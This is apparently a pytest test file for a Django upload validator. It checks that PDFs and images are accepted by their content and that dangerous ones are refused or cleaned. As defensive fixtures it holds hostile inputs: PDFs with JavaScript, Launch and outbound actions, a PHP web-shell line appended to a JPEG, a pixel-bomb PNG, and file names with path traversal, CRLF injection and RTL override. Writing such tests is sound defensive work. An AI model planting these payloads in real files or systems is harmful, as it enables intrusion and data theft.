"""What may come in, judged by content."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Callable
from typing import Any

import pikepdf
import pillow_heif
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from telusur.kernel.archive import image_intake
from telusur.kernel.archive.intake import DOCUMENT, IMAGES, MEGABYTE, PDF_ONLY, UploadRule, clean_name, inspect
from telusur.kernel.base.errors import Invalid

pytestmark = pytest.mark.once
PHOTO = UploadRule(kinds=IMAGES, max_bytes=2 * MEGABYTE, min_width=300, min_height=400, aspect=0.75)


def picture(kind: str = "JPEG", size: tuple[int, int] = (600, 800), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "teal").save(out, kind, **options)
    return out.getvalue()


def phone_picture() -> bytes:
    """As an iPhone writes it."""
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", (600, 800), "teal")).save(out)
    return out.getvalue()


def pdf(pages: int = 1, change: Any = None, **options: Any) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page(page_size=(300, 300))
    if change:
        change(made)
    out = io.BytesIO()
    made.save(out, **options)
    return out.getvalue()


def refusal(data: bytes, name: str, rule: UploadRule = DOCUMENT) -> str:
    with pytest.raises(Invalid) as refused:
        inspect(SimpleUploadedFile(name, data), rule)
    return refused.value.sentence


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (picture(), "foto.JPG", "jpeg"),
        (picture("PNG"), "foto.png", "png"),
        (pdf(3), "ijazah.pdf", "pdf"),
        (picture("WEBP"), "WhatsApp.webp", "jpeg"),
        (phone_picture(), "IMG_0001.HEIC", "jpeg"),
        (picture(), "unduhan.jfif", "jpeg"),
        (picture(), "foto", "jpeg"),
        (picture(), "foto.pdf", "jpeg"),
        (pdf(), "ijazah.jpg", "pdf"),
        (pdf(), "ijazah", "pdf"),
    ],
)
def test_what_opens_is_taken_whatever_it_is_called(data: bytes, name: str, kind: str) -> None:
    assert inspect(SimpleUploadedFile(name, data), DOCUMENT).kind.code == kind


@pytest.mark.parametrize(
    ("data", "name", "words"),
    [
        (b"", "kosong.pdf", "kosong"),
        (b"MZ\x90\x00 program", "program.pdf", "bukan JPEG, PDF atau PNG"),
        (b"<html></html>%PDF-1.7", "ganda.pdf", "bukan JPEG, PDF atau PNG"),
        (b"PK\x03\x04 docx", "surat.docx", "Simpan ulang"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "logo.svg", "bukan"),
        (picture()[:400], "foto.jpg", "rusak atau terpotong"),
        (pdf(2)[:300], "ijazah.pdf", "rusak atau terpotong"),
        (pdf(0), "hampa.pdf", "tidak berisi halaman"),
        (pdf(201), "tebal.pdf", "201 halaman"),
        (pdf(1, encryption=pikepdf.Encryption(owner="a", user="b")), "kunci.pdf", "kata sandi"),
    ],
)
def test_every_other_file_is_refused_with_fact_and_cure(data: bytes, name: str, words: str) -> None:
    sentence = refusal(data, name)
    assert words in sentence
    assert sentence.endswith(".")


def _open_action(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _hidden_in_annotation(document: pikepdf.Pdf) -> None:
    annotation = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
    annotation.A = pikepdf.Dictionary(
        S=pikepdf.Name.URI, URI="x", Next=[pikepdf.Dictionary(S=pikepdf.Name.Launch, F="a.exe")]
    )
    document.pages[0].Annots = pikepdf.Array([annotation])


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _on_open_of_page(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.GoTo))


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=document.make_stream(b"<xdp/>"))


@pytest.mark.parametrize("change", [_open_action, _hidden_in_annotation, _attachment, _on_open_of_page, _xfa])
@pytest.mark.parametrize("packed", [True, False])
def test_pdf_that_can_act_is_refused_wherever_the_action_hides(change: Any, packed: bool) -> None:
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    assert "skrip" in refusal(pdf(1, change, object_stream_mode=mode), "surat.pdf")


def _action(**action: Any) -> Callable[[pikepdf.Pdf], None]:
    def put(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9])
        note.A = pikepdf.Dictionary(**action)
        document.pages[0].Annots = pikepdf.Array([note])

    return put


def _content_kept_elsewhere(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.stream_dict.F = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, UF="isi.bin")
    document.pages[0].Lain = stream


def _opens_a_page_by_itself(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://jahat.example/")


@pytest.mark.parametrize(
    "change",
    [
        _action(S=pikepdf.Name.GoToR, F="lain.pdf", D=[0, pikepdf.Name.Fit]),
        _action(S=pikepdf.Name.GoToR, F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="//server/berbagi/a.pdf")),
        _action(S=pikepdf.Name.Launch, F="\\\\server\\berbagi\\a.exe"),
        _action(S=pikepdf.Name.SubmitForm, F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://jahat.example/")),
        _action(S=pikepdf.Name.URI, URI="\\\\server\\berbagi"),
        _action(S=pikepdf.Name.URI, URI="//server/berbagi"),
        _action(S=pikepdf.Name.URI, URI="file:///etc/passwd"),
        _action(S=pikepdf.Name.URI, URI="smb://server/berbagi"),
        _action(S=pikepdf.Name.URI, URI="javascript:alert(1)"),
        _content_kept_elsewhere,
        _opens_a_page_by_itself,
    ],
)
def test_pdf_that_reaches_out_is_refused(change: Any) -> None:
    assert "rujukan ke berkas di tempat lain" in refusal(pdf(1, change), "surat.pdf")


@pytest.mark.parametrize(
    "address", ["https://bnsp.example/", "http://x.example", "mailto:a@b.example", "www.x.example"]
)
def test_pdf_with_ordinary_links_is_taken(address: str) -> None:
    assert inspect(SimpleUploadedFile("a.pdf", pdf(1, _action(S=pikepdf.Name.URI, URI=address))), PDF_ONLY)


def test_pdf_that_only_restricts_copying_is_taken_and_kept_readable() -> None:
    locked = pdf(2, encryption=pikepdf.Encryption(owner="x", user="", R=6, allow=pikepdf.Permissions(extract=False)))
    taken = inspect(SimpleUploadedFile("in.pdf", locked), DOCUMENT)
    with pikepdf.open(io.BytesIO(taken.data)) as kept:
        assert not kept.is_encrypted
        assert len(kept.pages) == 2
    assert taken.original_sha256 == hashlib.sha256(locked).hexdigest()


def test_photo_of_12_megapixels_is_made_smaller_not_refused() -> None:
    noise = Image.effect_noise((4000, 3000), 90).convert("RGB")
    out = io.BytesIO()
    noise.save(out, "JPEG", quality=92)
    sent = out.getvalue()
    assert len(sent) > 9 * MEGABYTE
    for rule in (DOCUMENT, UploadRule(kinds=IMAGES, max_bytes=2 * MEGABYTE, min_width=300, min_height=400)):
        taken = inspect(SimpleUploadedFile("IMG_0001.jpg", sent), rule)
        assert len(taken.data) <= rule.max_bytes
        with Image.open(io.BytesIO(taken.data)) as kept:
            assert kept.width / kept.height == pytest.approx(4 / 3, abs=0.01)


@pytest.mark.parametrize(
    ("given", "named"),
    [
        ("foto", "foto.jpg"),
        ("foto.jfif", "foto.jfif"),
        ("foto.webp", "foto.jpg"),
        ("a.b", "a.b.jpg"),
        ("x.pdf", "x.jpg"),
    ],
)
def test_name_ends_as_the_content_is(given: str, named: str) -> None:
    assert inspect(SimpleUploadedFile(given, picture()), DOCUMENT).name == named


def test_pdf_that_opens_at_a_page_is_taken() -> None:
    def go_to(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])

    assert inspect(SimpleUploadedFile("a.pdf", pdf(1, go_to)), PDF_ONLY)


def test_file_larger_than_the_rule_is_refused_before_it_is_read() -> None:
    assert "batasnya 1 MB" in refusal(pdf() + b"0" * 2_000_000, "a.pdf", UploadRule(max_bytes=MEGABYTE))
    assert "batasnya 20 MB" in refusal(picture() + b"0" * 21_000_000, "foto.jpg", UploadRule(max_bytes=MEGABYTE))


def test_small_image_with_enormous_area_is_refused() -> None:
    out = io.BytesIO()
    Image.new("1", (9000, 9000)).save(out, "PNG")
    assert len(out.getvalue()) < 20_000
    assert "megapiksel" in refusal(out.getvalue(), "bom.png")


def test_photo_too_small_or_of_other_shape_is_refused() -> None:
    assert "paling sedikit" in refusal(picture(size=(150, 200)), "foto.jpg", PHOTO)
    assert "3 banding 4" in refusal(picture(size=(800, 600)), "foto.jpg", PHOTO)


def test_photo_is_turned_upright_and_loses_its_metadata() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by the camera
    exif[0x010F] = "Pabrik Kamera"
    taken = inspect(SimpleUploadedFile("foto.jpg", picture(size=(800, 600), exif=exif.tobytes())), PHOTO)
    with Image.open(io.BytesIO(taken.data)) as stored:
        assert stored.size == (600, 800)
        assert not stored.getexif()
    assert b"Pabrik" not in taken.data


def test_image_with_code_behind_its_end_is_written_anew_without_it() -> None:
    taken = inspect(SimpleUploadedFile("foto.jpg", picture() + b"<?php system($_GET[0]); ?>"), DOCUMENT)
    assert b"<?php" not in taken.data


def test_large_image_is_stored_with_at_most_4000_pixels_a_side() -> None:
    taken = inspect(SimpleUploadedFile("foto.png", picture("PNG", (4400, 1100))), DOCUMENT)
    with Image.open(io.BytesIO(taken.data)) as stored:
        assert stored.size == (image_intake.MAX_SIDE, 1000)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\a\\KTP  saya.jpg", "KTP saya.jpg"),
        ("<b>tebal</b>.pdf", "b>.pdf"),
        ("a\r\nSet-Cookie: x.pdf", "aSet-Cookie: x.pdf"),
        ("\u202egpj.exe.pdf", "gpj.exe.pdf"),
        ("...", "berkas"),
        ("n" * 300 + ".pdf", "n" * 196 + ".pdf"),
    ],
)
def test_name_is_cleaned_and_kept_readable(given: str, kept: str) -> None:
    assert clean_name(given) == kept
